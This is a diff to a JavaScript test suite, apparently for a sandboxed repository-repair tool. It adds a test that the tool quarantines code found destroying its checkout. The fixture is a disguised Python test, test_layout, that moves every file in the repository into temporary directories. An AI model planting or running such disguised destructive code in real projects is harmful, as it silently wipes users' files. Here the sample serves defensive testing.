@@ -254,6 +254,24 @@ def test_environment():
   expect(repository.branches()).toEqual(['main']);
 }, 120_000);
 
+test('code whose attack shows only in the sandbox is quarantined by what was seen there', async () => {
+  const mover = `import pathlib
+import shutil
+import tempfile
+
+
+def test_layout():
+    root = pathlib.Path(__file__).parents[1]
+    for path in [path for path in root.rglob("*.*") if path.is_file()]:
+        shutil.move(path, tempfile.mkdtemp())
+`;
+  const repository = remoteOf(shop(HEALTHY, { 'tests/test_layout.py': mover }));
+  const end = answer(await heal(repository.remote));
+  expect(end).toMatchObject({ code: 3, verdict: 'quarantined', results: { final_status: 'QUARANTINED' } });
+  expect(end.results.reason?.message).toMatch(/removed \d of \d files of its checkout/);
+  expect(repository.branches()).toEqual(['main']);
+}, 120_000);
+
 test('a repository that is not there, and a branch that is not ours, are told apart from failing code', async () => {
   const gone = answer(await heal(join(rift.home, 'no-such-repository')));
   expect(gone).toMatchObject({ code: 65, verdict: 'error', results: { reason: { code: 'CLONE_FAILED' } } });
